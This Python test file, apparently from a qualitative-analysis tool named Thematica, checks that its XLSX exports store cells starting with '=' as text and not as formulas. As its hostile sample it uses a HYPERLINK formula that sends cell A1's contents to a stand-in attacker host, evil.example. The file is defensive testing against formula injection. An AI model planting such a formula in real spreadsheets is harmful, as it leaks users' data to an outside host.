"""A quote that starts with "=" stays text in every workbook Thematica writes: a spreadsheet must
not run a participant's words (or a hostile document's) as a formula."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from thematica.exporters.xlsx_tables import sheets_to_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_table_cells_starting_with_equals_stay_text() -> None:
    data = sheets_to_xlsx({"codings": (["text", "n"], [[HOSTILE, 1], ["=1+1", 2], ["plain", 3]])})
    sheet = load_workbook(io.BytesIO(data))["codings"]
    assert [c.value for c in sheet["A"]] == ["text", HOSTILE, "=1+1", "plain"]
    assert [c.data_type for c in sheet["A"]][1:] == ["s", "s", "s"]
    assert sheet["B2"].value == 1 and sheet["B2"].data_type == "n"


def test_matrix_cells_starting_with_equals_stay_text(demo: object) -> None:
    project = demo
    name = "hostile"
    project.matrices.create(name, rows="cases", columns="themes", coder="alex")  # type: ignore[attr-defined]
    view = project.matrices.get(name)  # type: ignore[attr-defined]
    row, column = view.rows[0], view.columns[0].key
    project.matrices.set_cell(name, row, column, summary=HOSTILE)  # type: ignore[attr-defined]
    data = project.matrices.render(name, "xlsx")  # type: ignore[attr-defined]
    book = load_workbook(io.BytesIO(data))
    found = [
        c
        for ws in book.worksheets
        for r in ws.iter_rows()
        for c in r
        if isinstance(c.value, str) and c.value.startswith(HOSTILE)
    ]
    assert found and all(c.data_type == "s" for c in found)
